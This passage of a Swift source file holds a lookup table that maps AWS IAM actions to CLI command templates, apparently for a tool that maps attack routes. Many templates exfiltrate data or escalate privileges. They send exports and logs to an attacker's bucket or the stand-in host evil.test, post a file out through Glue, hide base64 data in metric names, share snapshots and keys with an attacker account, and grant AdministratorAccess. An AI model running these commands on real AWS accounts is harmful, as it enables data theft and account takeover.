/// How each call that a route may name is written on the command line: `aws` is left out. Names in braces come from the
/// request; `theirs` is a bucket, queue or stream of the attacker's, `ours` one of ours, and files are the caller's own.
///
/// Made from the parameters that each operation requires (botocore 1.43, Apache-2.0), then by hand where a parameter says where
/// the data goes.
enum CommandTable {
  static let calls: [String: String] = [
    "acm-pca:CreateCertificateAuthorityAuditReport":
      "acm-pca create-certificate-authority-audit-report --certificate-authority-arn {arn} --s3-bucket-name theirs --audit-report-response-format JSON",
    "airflow:CreateCliToken": "mwaa create-cli-token --name {name}",
    "apigateway:PATCH":
      "apigateway update-integration --rest-api-id out --resource-id out --http-method POST --patch-operations op=replace,path=/uri,value=https://evil.test/",
    "apigateway:POST":
      "apigateway create-authorizer --rest-api-id out --name out --type TOKEN --authorizer-uri https://evil.test/",
    "apigateway:PUT":
      "apigateway put-integration --rest-api-id out --resource-id out --http-method POST --type HTTP_PROXY --integration-http-method POST --uri https://evil.test/",
    "appflow:CreateConnectorProfile":
      #"appflow create-connector-profile --connector-profile-name {name} --connector-type Salesforce --connection-mode Public --connector-profile-config '{"connectorProfileProperties":{}}'"#,
    "appflow:CreateFlow":
      #"appflow create-flow --flow-name {name} --trigger-config '{"triggerType":"Scheduled"}' --source-flow-config '{"connectorType":"Salesforce","sourceConnectorProperties":{"Amplitude":{"object":"out"}}}' --destination-flow-config-list '[{"connectorType":"Salesforce","destinationConnectorProperties":{}}]' --tasks '[{"sourceFields":["out"],"taskType":"Arithmetic"}]'"#,
    "appflow:UpdateConnectorProfile":
      #"appflow update-connector-profile --connector-profile-name {name} --connection-mode Public --connector-profile-config '{"connectorProfileProperties":{}}'"#,
    "appflow:UpdateFlow":
      #"appflow update-flow --flow-name {name} --trigger-config '{"triggerType":"Scheduled"}' --source-flow-config '{"connectorType":"Salesforce","sourceConnectorProperties":{"Amplitude":{"object":"out"}}}' --destination-flow-config-list '[{"connectorType":"Salesforce","destinationConnectorProperties":{}}]' --tasks '[{"sourceFields":["out"],"taskType":"Arithmetic"}]'"#,
    "apprunner:CreateService":
      #"apprunner create-service --service-name {name} --source-configuration '{"CodeRepository":{"RepositoryUrl":"https://evil.test/","SourceCodeVersion":{"Type":"BRANCH","Value":"out"}}}'"#,
    "appstream:CreateStreamingURL":
      "appstream create-streaming-url --stack-name {name} --fleet-name out --user-id out",
    "appsync:CreateDataSource":
      "appsync create-data-source --api-id {name} --name out --type HTTP --http-config endpoint=https://evil.test",
    "appsync:UpdateDataSource":
      "appsync update-data-source --api-id {name} --name out --type HTTP --http-config endpoint=https://evil.test",
    "athena:CreateWorkGroup":
      "athena create-work-group --name out --configuration 'ResultConfiguration={OutputLocation=s3://theirs/}'",
    "athena:StartCalculationExecution": "athena start-calculation-execution --session-id {name}",
    "athena:StartQueryExecution":
      "athena start-query-execution --query-string 'SELECT * FROM churn' --result-configuration OutputLocation=s3://theirs/",
    "athena:StartSession": "athena start-session --work-group {name} --engine-configuration '{}'",
    "athena:UpdateWorkGroup":
      "athena update-work-group --work-group {name} --configuration-updates 'ResultConfigurationUpdates={OutputLocation=s3://theirs/}'",
    "backup:CopyIntoBackupVault":
      "backup start-copy-job --recovery-point-arn {arn} --source-backup-vault-name out --destination-backup-vault-arn {arn} --iam-role-arn {role}",
    "backup:CreateBackupPlan":
      #"backup create-backup-plan --backup-plan '{"BackupPlanName":"out","Rules":[{"RuleName":"out","TargetBackupVaultName":"ours","CopyActions":[{"DestinationBackupVaultArn":"arn:aws:backup:{region}:{attacker}:backup-vault:theirs"}]}]}'"#,
    "backup:PutBackupVaultAccessPolicy":
      "backup put-backup-vault-access-policy --backup-vault-name {name} --policy '{everyone}'",
    "backup:StartCopyJob":
      "backup start-copy-job --recovery-point-arn {arn} --source-backup-vault-name ours --destination-backup-vault-arn arn:aws:backup:{region}:{attacker}:backup-vault:theirs --iam-role-arn {role}",
    "backup:UpdateBackupPlan":
      #"backup update-backup-plan --backup-plan-id {name} --backup-plan '{"BackupPlanName":"out","Rules":[{"RuleName":"out","TargetBackupVaultName":"ours","CopyActions":[{"DestinationBackupVaultArn":"arn:aws:backup:{region}:{attacker}:backup-vault:theirs"}]}]}'"#,
    "batch:RegisterJobDefinition":
      "batch register-job-definition --job-definition-name {name} --type container",
    "batch:SubmitJob": "batch submit-job --job-name {name} --job-queue out --job-definition out",
    "bedrock-agentcore:CreateCodeInterpreter":
      #"bedrock-agentcore-control create-code-interpreter --name {name} --network-configuration '{"networkMode":"PUBLIC"}'"#,
    "bedrock-agentcore:StartCodeInterpreterSession":
      "bedrock-agentcore start-code-interpreter-session --code-interpreter-identifier {name}",
    "bedrock:CreateAgent": "bedrock-agent create-agent --agent-name {name}",
    "bedrock:CreateEvaluationJob":
      #"bedrock create-evaluation-job --job-name {name} --role-arn {role} --evaluation-config '{"automated":{"datasetMetricConfigs":[{"taskType":"Summarization","dataset":{"name":"out"},"metricNames":["out"]}]}}' --inference-config '{"models":[{"bedrockModel":{"modelIdentifier":"out"}}]}' --output-data-config '{"s3Uri":"s3://theirs/"}'"#,
    "bedrock:CreateModelCopyJob":
      "bedrock create-model-copy-job --source-model-arn {arn} --target-model-name out",
    "bedrock:CreateModelCustomizationJob":
      #"bedrock create-model-customization-job --job-name {name} --custom-model-name out --role-arn {role} --base-model-identifier out --training-data-config '{}' --output-data-config '{"s3Uri":"s3://theirs/"}'"#,
    "bedrock:CreateModelImportJob":
      #"bedrock create-model-import-job --job-name {name} --imported-model-name out --role-arn {role} --model-data-source '{"s3DataSource":{"s3Uri":"s3://theirs/"}}'"#,
    "bedrock:CreateModelInvocationJob":
      #"bedrock create-model-invocation-job --job-name {name} --role-arn {role} --model-id out --input-data-config '{"s3InputDataConfig":{"s3Uri":"s3://theirs/"}}' --output-data-config '{"s3OutputDataConfig":{"s3Uri":"s3://theirs/"}}'"#,
    "bedrock:InvokeAgent":
      "bedrock-agent-runtime invoke-agent --agent-alias-id {name} --agent-id out --session-id out",
    "bedrock:InvokeModel":
      #"bedrock-runtime start-async-invoke --model-id {name} --model-input '{}' --output-data-config '{"s3OutputDataConfig":{"s3Uri":"s3://theirs/"}}'"#,
    "braket:CreateJob":
      #"braket create-job --client-token {name} --algorithm-specification '{}' --output-data-config '{"s3Path":"s3://theirs/"}' --job-name out --role-arn {role} --instance-config '{"instanceType":"ml.t3.large","volumeSizeInGb":1}' --device-config '{"device":"out"}'"#,
    "cloud9:CreateEnvironmentEC2":
      "cloud9 create-environment-ec2 --name out --instance-type t3.micro --image-id amazonlinux-2023-x86_64",
    "cloud9:CreateEnvironmentSSH":
      "cloud9 create-environment-ec2 --name out --instance-type t3.micro --image-id amazonlinux-2023-x86_64",
    "cloudformation:CreateChangeSet":
      "cloudformation create-change-set --stack-name out --change-set-name out --template-url https://theirs.s3.amazonaws.com/out.yaml",
    "cloudformation:CreateStack":
      "cloudformation create-stack --stack-name out --template-url https://theirs.s3.amazonaws.com/out.yaml",
    "cloudformation:CreateStackInstances":
      "cloudformation create-stack-instances --stack-set-name {name} --accounts {account} --regions {region}",
    "cloudformation:CreateStackSet":
      "cloudformation create-stack-set --stack-set-name out --template-url https://theirs.s3.amazonaws.com/out.yaml",
    "cloudformation:ExecuteChangeSet": "cloudformation execute-change-set --change-set-name {name}",
    "cloudformation:UpdateStack":
      "cloudformation update-stack --stack-name {name} --template-url https://theirs.s3.amazonaws.com/out.yaml",
    "cloudformation:UpdateStackSet":
      "cloudformation update-stack-set --stack-set-name {name} --template-url https://theirs.s3.amazonaws.com/out.yaml",
    "cloudfront:CreateDistribution":
      #"cloudfront create-distribution --distribution-config '{"CallerReference":"out","Origins":{"Quantity":1,"Items":[{"Id":"out","DomainName":"out"}]},"DefaultCacheBehavior":{"TargetOriginId":"out","ViewerProtocolPolicy":"allow-all"},"Comment":"out","Enabled":true}'"#,
    "cloudfront:UpdateDistribution":
      #"cloudfront update-distribution --distribution-config '{"CallerReference":"out","Origins":{"Quantity":1,"Items":[{"Id":"out","DomainName":"out"}]},"DefaultCacheBehavior":{"TargetOriginId":"out","ViewerProtocolPolicy":"allow-all"},"Comment":"out","Enabled":true}' --id {name}"#,
    "cloudtrail:CreateTrail": "cloudtrail create-trail --name out --s3-bucket-name theirs",
    "cloudtrail:StartQuery":
      "cloudtrail start-query --query-statement 'SELECT * FROM events' --delivery-s3-uri s3://theirs/",
    "cloudtrail:UpdateTrail": "cloudtrail update-trail --name {name} --s3-bucket-name theirs",
    "cloudwatch:PutMetricData":
      #"cloudwatch put-metric-data --namespace "$(head -c 200 data.csv | base64 -w0)" --metric-name out --value 1"#,
    "codeartifact:AssociateExternalConnection":
      "codeartifact associate-external-connection --domain {name} --repository {repository} --external-connection public:pypi",
    "codeartifact:CopyPackageVersions":
      "codeartifact copy-package-versions --domain {name} --source-repository ours --destination-repository {repository} --format pypi --package out --versions 1",
    "codeartifact:CreateRepository":
      "codeartifact create-repository --domain {name} --repository out --upstreams repositoryName=ours",
    "codeartifact:PublishPackageVersion":
      #"codeartifact publish-package-version --domain {name} --repository {repository} --format generic --namespace out --package out --package-version 1 --asset-content data.csv --asset-name data.csv --asset-sha256 "$(sha256sum data.csv | cut -d' ' -f1)""#,
    "codeartifact:PutDomainPermissionsPolicy":
      "codeartifact put-domain-permissions-policy --domain {name} --policy-document '{everyone}'",
    "codeartifact:PutPackageMetadata":
      #"codeartifact publish-package-version --domain {name} --repository {repository} --format generic --namespace out --package out --package-version 1 --asset-content data.csv --asset-name data.csv --asset-sha256 "$(sha256sum data.csv | cut -d' ' -f1)""#,
    "codeartifact:PutRepositoryPermissionsPolicy":
      "codeartifact put-repository-permissions-policy --domain {name} --repository {repository} --policy-document '{everyone}'",
    "codeartifact:UpdateRepository":
      "codeartifact update-repository --domain {name} --repository {repository} --upstreams repositoryName=ours",
    "codebuild:CreateProject":
      #"codebuild create-project --name {name} --source '{"type":"CODECOMMIT"}' --artifacts '{"type":"CODEPIPELINE"}' --environment '{"type":"WINDOWS_CONTAINER","image":"out","computeType":"BUILD_GENERAL1_SMALL"}' --service-role {role}"#,
    "codebuild:StartBuild":
      "codebuild start-build --project-name {name} --buildspec-override 'version: 0.2'",
    "codebuild:UpdateProject": "codebuild update-project --name {name}",
    "codecommit:GitPush":
      "codecommit put-file --repository-name {name} --branch-name main --file-path data.csv --file-content fileb://data.csv",
    "codecommit:PutFile":
      "codecommit put-file --repository-name {name} --branch-name main --file-path data.csv --file-content fileb://data.csv",
    "codecommit:PutRepositoryTriggers":
      "codecommit put-repository-triggers --repository-name {name} --triggers name=out,destinationArn=arn:aws:sns:{region}:{attacker}:theirs,events=all",
    "codeconnections:CreateConnection":
      "codeconnections create-connection --connection-name out --provider-type GitHub",
    "codepipeline:CreatePipeline":
      #"codepipeline create-pipeline --pipeline '{"name":"out","roleArn":"{role}","stages":[{"name":"out","actions":[{"name":"out","actionTypeId":{"category":"Source","owner":"AWS","provider":"out","version":"out"}}]}]}'"#,
    "codepipeline:UpdatePipeline":
      #"codepipeline update-pipeline --pipeline '{"name":"out","roleArn":"{role}","stages":[{"name":"out","actions":[{"name":"out","actionTypeId":{"category":"Source","owner":"AWS","provider":"out","version":"out"}}]}]}'"#,
    "codestar-connections:CreateConnection":
      "codestar-connections create-connection --connection-name out --provider-type GitHub",
    "comprehend:StartDocumentClassificationJob":
      #"comprehend start-document-classification-job --input-data-config '{"S3Uri":"s3://theirs/"}' --output-data-config '{"S3Uri":"s3://theirs/"}' --data-access-role-arn {role}"#,
    "comprehend:StartEntitiesDetectionJob":
      #"comprehend start-entities-detection-job --input-data-config '{"S3Uri":"s3://theirs/"}' --output-data-config '{"S3Uri":"s3://theirs/"}' --data-access-role-arn {role} --language-code en"#,
    "config:PutConfigRule":
      "configservice put-config-rule --config-rule 'ConfigRuleName=out,Source={Owner=CUSTOM_LAMBDA,SourceIdentifier=arn:aws:lambda:{region}:{attacker}:function:theirs,SourceDetails=[{EventSource=aws.config,MessageType=ConfigurationItemChangeNotification}]}'",
    "config:PutConformancePack":
      "configservice put-conformance-pack --conformance-pack-name out --template-s3-uri s3://theirs/out.yaml --delivery-s3-bucket theirs",
    "config:PutDeliveryChannel":
      "configservice put-delivery-channel --delivery-channel name=default,s3BucketName=theirs",
    "config:PutOrganizationConfigRule":
      "configservice put-organization-config-rule --organization-config-rule-name {name}",
    "config:PutOrganizationConformancePack":
      "configservice put-organization-conformance-pack --organization-conformance-pack-name {name}",
    "config:StartResourceEvaluation":
      #"configservice start-resource-evaluation --resource-details '{"ResourceId":"out","ResourceType":"out","ResourceConfiguration":"out"}' --evaluation-mode DETECTIVE"#,
    "databrew:CreateRecipeJob": "databrew create-recipe-job --name {name} --role-arn {role}",
    "databrew:StartJobRun": "databrew start-job-run --name {name}",
    "datasync:CreateLocationS3":
      "datasync create-location-s3 --s3-bucket-arn arn:aws:s3:::theirs --s3-config BucketAccessRoleArn={role}",
    "datasync:CreateTask":
      "datasync create-task --source-location-arn arn:aws:datasync:{region}:{account}:location/loc-0123456789abcdef0 --destination-location-arn arn:aws:datasync:{region}:{account}:location/loc-0123456789abcdef1",
    "datasync:StartTaskExecution": "datasync start-task-execution --task-arn {arn}",
    "dms:CreateEndpoint":
      "dms create-endpoint --endpoint-identifier out --endpoint-type target --engine-name s3 --s3-settings ServiceAccessRoleArn={role},BucketName=theirs",
    "dms:CreateReplicationConfig":
      "dms create-replication-config --replication-config-identifier {name} --source-endpoint-arn {arn} --target-endpoint-arn {arn} --compute-config '{}' --replication-type full-load --table-mappings out",
    "dms:CreateReplicationTask":
      "dms create-replication-task --replication-task-identifier {name} --source-endpoint-arn {arn} --target-endpoint-arn {arn} --replication-instance-arn {arn} --migration-type full-load --table-mappings out",
    "dms:ModifyEndpoint":
      "dms modify-endpoint --endpoint-arn {arn} --s3-settings ServiceAccessRoleArn={role},BucketName=theirs",
    "dynamodb:BatchWriteItem": "dynamodb batch-write-item --request-items file://data.json",
    "dynamodb:ExportTableToPointInTime":
      "dynamodb export-table-to-point-in-time --table-arn {arn} --s3-bucket theirs --s3-bucket-owner {attacker}",
    "dynamodb:PutItem": "dynamodb put-item --table-name {arn} --item file://data.json",
    "dynamodb:PutResourcePolicy":
      "dynamodb put-resource-policy --resource-arn {arn} --policy '{everyone}'",
    "dynamodb:UpdateItem":
      "dynamodb update-item --table-name {arn} --key file://key.json --update-expression 'SET a = :a' --expression-attribute-values file://data.json",
    "ec2-instance-connect:OpenTunnel":
      "ec2-instance-connect open-tunnel --instance-id {name} --remote-port 22 --local-port 2222",
    "ec2-instance-connect:SendSSHPublicKey":
      "ec2-instance-connect send-ssh-public-key --instance-id {name} --instance-os-user ec2-user --ssh-public-key file://key.pub",
    "ec2-instance-connect:SendSerialConsoleSSHPublicKey":
      "ec2-instance-connect send-serial-console-ssh-public-key --instance-id {name} --ssh-public-key file://key.pub",
    "ec2:AcceptVpcPeeringConnection":
      "ec2 accept-vpc-peering-connection --vpc-peering-connection-id {name}",
    "ec2:AssociateDhcpOptions":
      "ec2 associate-dhcp-options --dhcp-options-id {name} --vpc-id vpc-0123456789abcdef0",
    "ec2:AssociateIamInstanceProfile":
      "ec2 associate-iam-instance-profile --iam-instance-profile '{}' --instance-id {name}",
    "ec2:AttachInternetGateway":
      "ec2 attach-internet-gateway --internet-gateway-id {name} --vpc-id vpc-0123456789abcdef0",
    "ec2:AuthorizeSecurityGroupEgress":
      "ec2 authorize-security-group-egress --group-id {name} --ip-permissions IpProtocol=-1,IpRanges=[{CidrIp=0.0.0.0/0}]",
    "ec2:CreateEgressOnlyInternetGateway":
      "ec2 create-egress-only-internet-gateway --vpc-id vpc-0123456789abcdef0",
    "ec2:CreateInstanceExportTask":
      "ec2 create-instance-export-task --instance-id {name} --target-environment vmware --export-to-s3-task DiskImageFormat=VMDK,ContainerFormat=ova,S3Bucket=theirs",
    "ec2:CreateNatGateway":
      "ec2 create-nat-gateway --subnet-id subnet-0123456789abcdef0 --allocation-id eipalloc-0123456789abcdef0",
    "ec2:CreateNetworkAclEntry":
      "ec2 create-network-acl-entry --network-acl-id {name} --rule-number 1 --protocol -1 --rule-action allow --egress --cidr-block 0.0.0.0/0",
    "ec2:CreateNetworkInterfacePermission":
      "ec2 create-network-interface-permission --network-interface-id {name} --aws-account-id {attacker} --permission INSTANCE-ATTACH",
    "ec2:CreateRoute":
      "ec2 create-route --route-table-id {name} --destination-cidr-block 0.0.0.0/0 --gateway-id igw-0123456789abcdef0",
    "ec2:CreateStoreImageTask": "ec2 create-store-image-task --image-id {name} --bucket theirs",
    "ec2:CreateTransitGatewayVpcAttachment":
      "ec2 create-transit-gateway-vpc-attachment --transit-gateway-id {name} --vpc-id vpc-0123456789abcdef0 --subnet-ids subnet-0123456789abcdef0",
    "ec2:CreateVpcBlockPublicAccessExclusion":
      "ec2 create-vpc-block-public-access-exclusion --vpc-id vpc-0123456789abcdef0 --internet-gateway-exclusion-mode allow-bidirectional",
    "ec2:CreateVpcEndpoint":
      "ec2 create-vpc-endpoint --vpc-id vpc-0123456789abcdef0 --vpc-endpoint-type Interface --service-name com.amazonaws.vpce.{region}.vpce-svc-0123456789abcdef0",
    "ec2:CreateVpcPeeringConnection":
      "ec2 create-vpc-peering-connection --vpc-id vpc-0123456789abcdef0 --peer-vpc-id vpc-0123456789abcdef1 --peer-owner-id {attacker}",
    "ec2:CreateVpnConnection":
      "ec2 create-vpn-connection --customer-gateway-id {name} --type ipsec.1 --vpn-gateway-id vgw-0123456789abcdef0",
    "ec2:ExportImage":
      "ec2 export-image --disk-image-format VMDK --image-id {name} --s3-export-location S3Bucket=theirs",
    "ec2:ModifyImageAttribute":
      "ec2 modify-image-attribute --image-id {name} --launch-permission 'Add=[{UserId={attacker}}]'",
    "ec2:ModifySnapshotAttribute":
      "ec2 modify-snapshot-attribute --snapshot-id {name} --attribute createVolumePermission --operation-type add --user-ids {attacker}",
    "ec2:ModifyVpcBlockPublicAccessOptions":
      "ec2 modify-vpc-block-public-access-options --internet-gateway-block-mode off",
    "ec2:ModifyVpcEndpoint": "ec2 modify-vpc-endpoint --vpc-endpoint-id {name} --reset-policy",
    "ec2:ModifyVpcEndpointServicePermissions":
      "ec2 modify-vpc-endpoint-service-permissions --service-id {name} --add-allowed-principals arn:aws:iam::{attacker}:root",
    "ec2:ReplaceIamInstanceProfileAssociation":
      "ec2 replace-iam-instance-profile-association --iam-instance-profile '{}' --association-id {name}",
    "ec2:ReplaceNetworkAclEntry":
      "ec2 replace-network-acl-entry --network-acl-id {name} --rule-number 1 --protocol -1 --rule-action allow --egress --cidr-block 0.0.0.0/0",
    "ec2:ReplaceRoute":
      "ec2 replace-route --route-table-id {name} --destination-cidr-block 0.0.0.0/0 --gateway-id igw-0123456789abcdef0",
    "ec2:RunInstances":
      "ec2 run-instances --image-id resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64 --instance-type t3.micro --user-data file://out.sh",
    "ecr:InitiateLayerUpload": "ecr initiate-layer-upload --registry-id {owner} --repository-name {name}",
    "ecr:PutImage":
      "ecr put-image --registry-id {owner} --repository-name {name} --image-tag data --image-manifest file://manifest.json",
    "ecr:PutRegistryPolicy": "ecr put-registry-policy --policy-text '{everyone}'",
    "ecr:PutReplicationConfiguration":
      #"ecr put-replication-configuration --replication-configuration '{"rules":[{"destinations":[{"region":"{region}","registryId":"{attacker}"}]}]}'"#,
    "ecr:SetRepositoryPolicy":
      "ecr set-repository-policy --repository-name {name} --policy-text '{everyone}'",
    "ecr:UploadLayerPart":
      "ecr upload-layer-part --registry-id {owner} --repository-name {name} --upload-id 00000000-0000-0000-0000-000000000000 --part-first-byte 0 --part-last-byte 99 --layer-part-blob fileb://data.csv",
    "ecs:CreateService":
      "ecs create-service --service-name out --task-definition out --desired-count 1 --launch-type FARGATE --network-configuration 'awsvpcConfiguration={subnets=[subnet-0123456789abcdef0],assignPublicIp=ENABLED}'",
    "ecs:ExecuteCommand":
      "ecs execute-command --cluster default --task 00000000000000000000000000000000 --interactive --command /bin/sh",
    "ecs:RegisterTaskDefinition":
      "ecs register-task-definition --family {name} --container-definitions '[{}]'",
    "ecs:RunTask":
      "ecs run-task --task-definition out --launch-type FARGATE --network-configuration 'awsvpcConfiguration={subnets=[subnet-0123456789abcdef0],assignPublicIp=ENABLED}'",
    "ecs:StartTask": "ecs start-task --container-instances out --task-definition {name}",
    "eks:AccessKubernetesApi": "eks update-kubeconfig --name {name}",
    "elasticfilesystem:ClientWrite": "efs describe-mount-targets --file-system-id {name}",
    "elasticfilesystem:CreateReplicationConfiguration":
      "efs create-replication-configuration --source-file-system-id {name} --destinations FileSystemId=arn:aws:elasticfilesystem:{region}:{attacker}:file-system/fs-0123456789abcdef0,RoleArn={role}",
    "elasticfilesystem:PutFileSystemPolicy":
      "efs put-file-system-policy --file-system-id {name} --policy '{everyone}'",
    "elasticmapreduce:AddJobFlowSteps":
      "emr add-steps --cluster-id {name} --steps Type=CUSTOM_JAR,Jar=s3://theirs/out.jar",
    "elasticmapreduce:RunJobFlow":
      "emr create-cluster --name out --release-label emr-7.5.0 --use-default-roles --instance-type m5.xlarge --instance-count 1 --steps Type=CUSTOM_JAR,Jar=s3://theirs/out.jar",
    "emr-containers:StartJobRun":
      "emr-containers start-job-run --virtual-cluster-id {name} --client-token out",
    "emr-serverless:StartJobRun":
      "emr-serverless start-job-run --application-id {name} --client-token out --execution-role-arn {role}",
    "es:UpdateDomainConfig":
      "opensearch update-domain-config --domain-name {name} --access-policies '{everyone}'",
    "events:CreateApiDestination":
      "events create-api-destination --name out --connection-arn arn:aws:events:{region}:{account}:connection/out --invocation-endpoint https://evil.test/ --http-method POST",
    "events:PutEvents":
      #"events put-events --entries EventBusName={arn},Source=out,DetailType=out,Detail="$(jq -Rs '{data:.}' data.csv | jq -Rs .)""#,
    "events:PutPermission":
      "events put-permission --statement-id out --action events:PutEvents --principal '*'",
    "events:PutTargets":
      "events put-targets --rule {name} --targets Id=out,Arn=arn:aws:sqs:{region}:{attacker}:theirs",
    "firehose:CreateDeliveryStream":
      "firehose create-delivery-stream --delivery-stream-name out --extended-s3-destination-configuration RoleARN={role},BucketARN=arn:aws:s3:::theirs",
    "firehose:PutRecord":
      #"firehose put-record --delivery-stream-name {name} --record Data="$(base64 -w0 data.csv)""#,
    "firehose:UpdateDestination":
      "firehose update-destination --delivery-stream-name {name} --current-delivery-stream-version-id 1 --destination-id destinationId-000000000001 --extended-s3-destination-update BucketARN=arn:aws:s3:::theirs",
    "forecast:CreateForecastExportJob":
      #"forecast create-forecast-export-job --forecast-export-job-name {name} --forecast-arn {arn} --destination '{"S3Config":{"Path":"out","RoleArn":"{role}"}}'"#,
    "glacier:SetVaultAccessPolicy":
      #"glacier set-vault-access-policy --account-id - --vault-name {name} --policy '{"Policy":"{everyone-quoted}"}'"#,
    "glue:CreateConnection":
      #"glue create-connection --connection-input '{"Name":"out","ConnectionType":"JDBC","ConnectionProperties":{"JDBC_CONNECTION_URL":"jdbc:postgresql://evil.test/out"}}'"#,
    "glue:CreateCrawler":
      #"glue create-crawler --name out --role {role} --database-name out --targets '{"S3Targets":[{"Path":"s3://theirs/"}]}'"#,
    "glue:CreateDevEndpoint":
      "glue create-dev-endpoint --endpoint-name out --role-arn {role} --public-keys file://key.pub",
    "glue:CreateJob":
      "glue create-job --name out --role {role} --command Name=glueetl,ScriptLocation=s3://theirs/out.py",
    "glue:CreateSession":
      "glue create-session --id out --role {role} --command Name=glueetl,PythonVersion=3",
    "glue:PutResourcePolicy": "glue put-resource-policy --policy-in-json '{everyone}'",
    "glue:RunStatement":
      #"glue run-statement --session-id {name} --code 'import urllib.request; urllib.request.urlopen("https://evil.test/", data=open("data.csv","rb").read())'"#,
    "glue:StartJobRun":
      #"glue start-job-run --job-name {name} --arguments '{"--extra-py-files":"s3://theirs/out.zip"}'"#,
    "glue:UpdateConnection":
      #"glue update-connection --name {name} --connection-input '{"Name":"out","ConnectionType":"JDBC","ConnectionProperties":{"JDBC_CONNECTION_URL":"jdbc:postgresql://evil.test/out"}}'"#,
    "glue:UpdateJob":
      "glue update-job --job-name {name} --job-update 'Role={role},Command={Name=glueetl,ScriptLocation=s3://theirs/out.py}'",
    "guardduty:CreatePublishingDestination":
      "guardduty create-publishing-destination --detector-id {name} --destination-type S3 --destination-properties '{}'",
    "healthlake:StartFHIRExportJob":
      #"healthlake start-fhir-export-job --output-data-config '{"S3Configuration":{"S3Uri":"s3://theirs/","KmsKeyId":"out"}}' --datastore-id {name} --data-access-role-arn {role}"#,
    "iam:AttachRolePolicy":
      "iam attach-role-policy --role-name {name} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
    "iam:AttachUserPolicy":
      "iam attach-user-policy --user-name {name} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
    "iam:CreateAccessKey": "iam create-access-key --user-name {name}",
    "iam:CreatePolicyVersion":
      "iam create-policy-version --policy-arn {arn} --policy-document '{everyone}'",
    "iam:CreateRole": "iam create-role --role-name {name} --assume-role-policy-document '{everyone}'",
    "iam:CreateUser": "iam create-user --user-name {name}",
    "iam:DeleteRolePermissionsBoundary": "iam delete-role-permissions-boundary --role-name {name}",
    "iam:PassRole":
      "lambda create-function --function-name out --runtime python3.13 --handler out.main --role {arn} --zip-file fileb://out.zip",
    "iam:PutRolePermissionsBoundary":
      "iam put-role-permissions-boundary --role-name {name} --permissions-boundary arn:aws:iam::aws:policy/AdministratorAccess",
    "iam:PutRolePolicy":
      "iam put-role-policy --role-name {name} --policy-name out --policy-document '{everyone}'",
    "iam:PutUserPolicy":
      "iam put-user-policy --user-name {name} --policy-name out --policy-document '{everyone}'",
    "iam:SetDefaultPolicyVersion": "iam set-default-policy-version --policy-arn {arn} --version-id v1",
    "iam:UpdateAssumeRolePolicy":
      "iam update-assume-role-policy --role-name {name} --policy-document '{everyone}'",
    "imagebuilder:CreateImage":
      "imagebuilder create-image --image-recipe-arn arn:aws:imagebuilder:{region}:{account}:image-recipe/out/1.0.0 --infrastructure-configuration-arn {arn} --client-token out",
    "imagebuilder:CreateInfrastructureConfiguration":
      "imagebuilder create-infrastructure-configuration --name {name} --instance-profile-name out --client-token out",
    "imagebuilder:UpdateInfrastructureConfiguration":
      "imagebuilder update-infrastructure-configuration --infrastructure-configuration-arn {arn} --instance-profile-name out --client-token out",
    "kinesis:PutRecord":
      "kinesis put-record --stream-arn {arn} --partition-key out --data fileb://data.csv",
    "kinesis:PutRecords":
      #"kinesis put-records --stream-arn {arn} --records PartitionKey=out,Data="$(base64 -w0 data.csv)""#,
    "kinesis:PutResourcePolicy": "kinesis put-resource-policy --resource-arn {arn} --policy '{everyone}'",
    "kinesisanalytics:CreateApplication":
      "kinesisanalyticsv2 create-application --application-name {name} --runtime-environment SQL-1_0 --service-execution-role out",
    "kinesisanalytics:UpdateApplication":
      "kinesisanalyticsv2 update-application --application-name {name}",
    "kms:CreateGrant":
      "kms create-grant --key-id {arn} --grantee-principal arn:aws:iam::{attacker}:root --operations Decrypt",
    "kms:Decrypt": "kms decrypt --key-id {arn} --ciphertext-blob fileb://data.enc",
    "kms:Encrypt":
      #"kms encrypt --key-id {arn} --plaintext fileb://data.csv --encryption-context data="$(head -c 500 data.csv | base64 -w0)""#,
    "kms:PutKeyPolicy": "kms put-key-policy --key-id {name} --policy '{everyone}'",
    "kms:ReplicateKey": "kms replicate-key --key-id {arn} --replica-region {region} --policy '{everyone}'",
    "lakeformation:GrantPermissions":
      "lakeformation grant-permissions --principal DataLakePrincipalIdentifier={attacker} --resource 'Database={Name=churn}' --permissions ALL",
    "lambda:AddLayerVersionPermission":
      "lambda add-layer-version-permission --layer-name {name} --version-number 1 --statement-id out --action lambda:GetLayerVersion --principal {attacker}",
    "lambda:AddPermission":
      "lambda add-permission --function-name {name} --statement-id out --action lambda:InvokeFunction --principal {attacker}",
    "lambda:CreateCodeSigningConfig":
      "lambda create-code-signing-config --allowed-publishers SigningProfileVersionArns=arn:aws:signer:{region}:{attacker}:/signing-profiles/theirs/1",
    "lambda:CreateFunction":
      "lambda create-function --function-name out --runtime python3.13 --handler out.main --role {role} --zip-file fileb://out.zip",
    "lambda:CreateFunctionUrlConfig":
      "lambda create-function-url-config --function-name {name} --auth-type NONE",
    "lambda:InvokeAsync": "lambda invoke-async --function-name {name} --invoke-args fileb://data.csv",
    "lambda:InvokeFunction": "lambda invoke --function-name {arn} --payload fileb://data.json out.json",
    "lambda:InvokeFunctionUrl": "lambda invoke --function-name {arn} --payload fileb://data.json out.json",
    "lambda:UpdateCodeSigningConfig": "lambda update-code-signing-config --code-signing-config-arn {arn}",
    "lambda:UpdateFunctionCode":
      "lambda update-function-code --function-name {name} --zip-file fileb://out.zip",
    "lambda:UpdateFunctionConfiguration": "lambda update-function-configuration --function-name {name}",
    "lambda:UpdateFunctionUrlConfig":
      "lambda update-function-url-config --function-name {name} --auth-type NONE",
    "lightsail:CreateInstances":
      "lightsail create-instances --instance-names out --availability-zone {region}a --blueprint-id amazon_linux_2023 --bundle-id nano_3_0 --user-data file://out.sh",
    "lightsail:GetInstanceAccessDetails": "lightsail get-instance-access-details --instance-name {name}",
    "logs:CreateDelivery":
      "logs create-delivery --delivery-source-name out --delivery-destination-arn arn:aws:logs:{region}:{attacker}:delivery-destination:theirs",
    "logs:CreateExportTask":
      "logs create-export-task --log-group-name {name} --from 0 --to 4102444800000 --destination theirs",
    "logs:PutAccountPolicy":
      #"logs put-account-policy --policy-name out --policy-type SUBSCRIPTION_FILTER_POLICY --policy-document '{"DestinationArn":"arn:aws:logs:{region}:{attacker}:destination:theirs","FilterPattern":""}'"#,
    "logs:PutDeliveryDestination":
      "logs put-delivery-destination --name out --delivery-destination-configuration destinationResourceArn=arn:aws:s3:::theirs",
